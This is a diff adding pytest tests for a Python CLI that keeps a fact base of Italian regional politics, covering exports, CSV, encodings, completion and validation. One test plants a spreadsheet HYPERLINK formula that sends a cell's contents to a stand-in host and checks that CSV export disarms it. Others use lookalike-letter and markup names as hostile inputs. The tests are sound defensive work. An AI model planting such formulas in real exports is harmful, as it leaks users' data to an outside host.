@@ -6,14 +6,21 @@ a cache it must not trust blindly, an answer it must not get silently wrong.
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
+import subprocess
 import time
+import tomllib
 from pathlib import Path
 
 import pytest
+import tomli_w
 
 from esra_cli import facts
 from tests.conftest import SHIPPED, as_user_without_privileges, call
+from tests.test_process import ESRA
 
 QUOTE = "ansa-2024-11-08=Regione Lombardia ufficializza l'ingresso"
 
@@ -124,3 +131,200 @@ def test_a_dotted_key_too_deep_is_refused_before_parsing(tmp_path: Path, parts: 
 def test_a_dotted_key_of_64_parts_is_toml_like_any_other() -> None:
     key = ".".join(f'"p{n}"' if n % 2 else f"p{n}" for n in range(64))
     assert facts.parse(f"{key} = 1\n", "k.toml") != {}
+
+
+# --- exports -----------------------------------------------------------------------------------
+
+
+def test_a_sqlite_export_never_writes_over_the_base_or_another_file(
+    tmp_path: Path, facts_copy: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    notes = tmp_path / "notes.txt"
+    notes.write_text("mine")
+    before = facts_copy.read_bytes()
+    for target, says in [
+        (facts_copy, "is the fact base being exported"),
+        (notes, "exists and is not a SQLite database"),
+        (Path("-"), "not to stdout"),
+    ]:
+        result = call("--facts", str(facts_copy), "export", "--format", "sqlite", str(target))
+        assert (result.exit_code, result.stdout) == (2, "") and says in result.stderr, result.stderr
+    assert facts_copy.read_bytes() == before and notes.read_text() == "mine"
+    assert not (tmp_path / "-").exists()
+    database = tmp_path / "esra.db"
+    assert call("--facts", str(facts_copy), "export", "--format", "sqlite", str(database)).exit_code == 0
+    again = call("--facts", str(facts_copy), "export", "--format", "sqlite", str(database))
+    assert again.exit_code == 2 and "--force replaces it" in again.stderr
+    forced = call("--facts", str(facts_copy), "export", "--format", "sqlite", "--force", str(database))
+    assert forced.exit_code == 0 and database.read_bytes().startswith(b"SQLite format 3\0")
+
+
+def hostile_person(base: Path, name: str, party: str = "Lega") -> None:
+    """Append a person whose name and party a spreadsheet or a CSV reader would trip on."""
+    record = tomli_w.dumps({"people": [{
+        "id": "hostile", "name": name, "party": party, "sources": ["ansa-2024-11-08"],
+        "quotes": {"ansa-2024-11-08": "Regione Lombardia ufficializza l'ingresso"},
+    }]})  # fmt: skip
+    base.write_text(base.read_text(encoding="utf-8") + "\n" + record, encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    "args", [["export", "--format", "csv", "--kind", "person"], ["who", "--format", "csv"]]
+)
+def test_csv_keeps_a_carriage_return_inside_its_cell_and_disarms_formulas(
+    facts_copy: Path, args: list[str]
+) -> None:
+    hostile_person(facts_copy, "Maria\rRossi", party='=HYPERLINK("http://x.example/?"&A1,"Lega")')
+    result = call("--facts", str(facts_copy), *args, env={"ESRA_CACHE": "off"})
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    people = call("--facts", str(facts_copy), "who", "--json", env={"ESRA_CACHE": "off"}).stdout
+    assert len(rows) == len(
+        json.loads(people) if args[0] == "who" else tomllib.loads(facts_copy.read_text())["people"]
+    )
+    (row,) = [r for r in rows if r["id"] == "hostile"]
+    assert row["name"] == "Maria\rRossi"
+    assert row["party"] == "'" + '=HYPERLINK("http://x.example/?"&A1,"Lega")'  # text, not a formula
+    shown = json.loads(call("--facts", str(facts_copy), "person", "hostile", "--json").stdout)
+    assert shown["party"].startswith("=HYPERLINK")  # JSON keeps the value as it is
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["members", "--format", "csv"],
+        ["when", "--format", "plain"],
+        ["export", "--format", "json"],
+        ["export", "--format", "toml"],
+        ["graph"],
+        [
+            "add",
+            "person",
+            "--id",
+            "ze",
+            "--name",
+            "Zé",
+            "--source",
+            "ansa-2024-11-08",
+            "--quote",
+            QUOTE,
+            "--dry-run",
+        ],
+    ],
+    ids=lambda args: " ".join(args[:3]),
+)
+def test_data_on_a_stream_that_is_not_utf8_is_written_as_utf8(args: list[str]) -> None:
+    env = {
+        k: v for k, v in os.environ.items() if not k.startswith(("ESRA_", "PYTHONIOENCODING", "LC_", "LANG"))
+    }
+    answers = [
+        subprocess.run(
+            [ESRA, *args, *(["--as-of", "2026-11-25"] if args[0] in ("members", "when") else [])],
+            capture_output=True,
+            env=env | {"PYTHONIOENCODING": encoding},
+            timeout=60,
+            check=False,
+        )
+        for encoding in ("utf-8", "ascii", "latin-1")
+    ]
+    assert [(a.returncode, a.stderr) for a in answers] == [(0, b"")] * 3
+    assert answers[0].stdout == answers[1].stdout == answers[2].stdout
+    assert not answers[0].stdout.isascii()
+
+
+# --- completion and search ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("shell", ["zsh", "fish"])
+def test_completion_shows_a_name_with_markup_as_written(tmp_path: Path, shell: str) -> None:
+    base = tmp_path / "facts.toml"
+    base.write_bytes(SHIPPED.read_bytes())
+    hostile_person(base, "Anna [/] Bianchi [red]x[/red] :warning:")
+    line = "esra person an"
+    env = {"ESRA_FACTS": str(base), "_ESRA_COMPLETE": f"complete_{shell}", "_TYPER_COMPLETE_ARGS": line}
+    result = call(env=env)
+    assert result.exit_code == 0 and result.stderr == ""
+    shown = "Anna [/] Bianchi [red]x[/red] " + ("\\\\:warning\\\\:" if shell == "zsh" else ":warning:")
+    assert shown in result.stdout
+    quoted = call(env=env | {"_TYPER_COMPLETE_ARGS": "esra person 'an"})  # left to Typer: no crash
+    assert (quoted.exit_code, quoted.stderr) == (0, "")
+    assert shell == "fish" or '"anna-bianchi-red-x-red-warning"' in quoted.stdout
+
+
+@pytest.mark.parametrize("text", ["", "?", "-", "–", "..."])
+def test_search_with_no_word_is_a_usage_error_not_the_whole_base(text: str) -> None:
+    result = call("search", text, "--json")
+    assert (result.exit_code, result.stdout) == (2, "")
+    assert result.stderr.startswith("esra: nothing to search for") and result.stderr.count("\n") == 1
+
+
+# --- what check lets in --------------------------------------------------------------------------
+
+
+def test_a_lookalike_or_an_equal_name_is_refused_and_an_id_names_its_record(facts_copy: Path) -> None:
+    def region(rid: str, name: str) -> tuple[int, str]:
+        result = call(
+            "--facts", str(facts_copy), "add", "region", "--id", rid, "--name-en", name, "--name-it",
+            name, "--country", "IT", "--source", "ansa-2024-11-08", "--quote", QUOTE,
+        )  # fmt: skip
+        return result.exit_code, result.stderr
+
+    code, stderr = region("lombardia-bis", "Lombardy")
+    assert code == 4 and "name 'Lombardy' also names 'lombardia' [same-name]" in stderr
+    code, stderr = region("spoof", "L\u043embardy")  # a Cyrillic о
+    assert code == 4 and "mixes CYRILLIC and LATIN letters [mixed-script]" in stderr
+    hostile_person(facts_copy, "Lombardia")  # another kind: not the region's name
+    found = call("--facts", str(facts_copy), "region", "lombardia", "--json", env={"ESRA_CACHE": "off"})
+    assert json.loads(found.stdout)["id"] == "lombardia"
+
+
+PLANS = """
+[[events]]
+id = "plan-x"
+title = {{ it = "piano x", en = "plan x" }}
+status = "planned"
+date = "2025-01"
+fulfilled_by = "{outcome}"
+sources = ["ansa-2024-11-08"]
+quotes = {{ ansa-2024-11-08 = "Regione Lombardia" }}
+
+[[events]]
+id = "outcome-x"
+title = {{ it = "esito x", en = "outcome x" }}
+status = "{status}"
+date = "2025-02"
+fulfils = "plan-x"
+part_of = "{parent}"
+sources = ["ansa-2024-11-08"]
+quotes = {{ ansa-2024-11-08 = "Regione Lombardia" }}
+"""
+
+
+def test_a_plan_says_what_came_of_it_and_check_refuses_loops(facts_copy: Path) -> None:
+    text = facts_copy.read_text(encoding="utf-8")
+    facts_copy.write_text(
+        text + PLANS.format(outcome="outcome-x", status="cancelled", parent="esra-plenary-2024")
+    )
+    shown = call("--facts", str(facts_copy), "what", "plan x", env={"ESRA_CACHE": "off"})  # a piped table
+    assert shown.exit_code == 0, shown.stderr
+    assert "planned → cancelled February 2025" in shown.stdout and "held" not in shown.stdout
+    for outcome, status, parent, rule in [
+        ("plan-x", "cancelled", "esra-plenary-2024", "[self-reference]"),
+        ("outcome-x", "planned", "esra-plenary-2024", "[plan-outcome]"),
+        ("outcome-x", "held", "outcome-x", "[self-reference]"),
+    ]:
+        facts_copy.write_text(text + PLANS.format(outcome=outcome, status=status, parent=parent))
+        checked = call("--facts", str(facts_copy), "check")
+        assert checked.exit_code == 4 and rule in checked.stdout, (rule, checked.stdout)
+
+
+def test_check_against_an_id_with_nothing_to_check_fails(tmp_path: Path) -> None:
+    text = tmp_path / "source.txt"
+    text.write_text("Regione Lombardia ufficializza l'ingresso")
+    for source_id, says in [
+        ("corcom-2024-11-8", "not in the source register"),
+        ("ansa-2024-06-25", "no record quotes"),
+    ]:
+        result = call("check", "--against", str(text), "--source-id", source_id)
+        assert result.exit_code == 2 and says in result.stderr, result.stderr
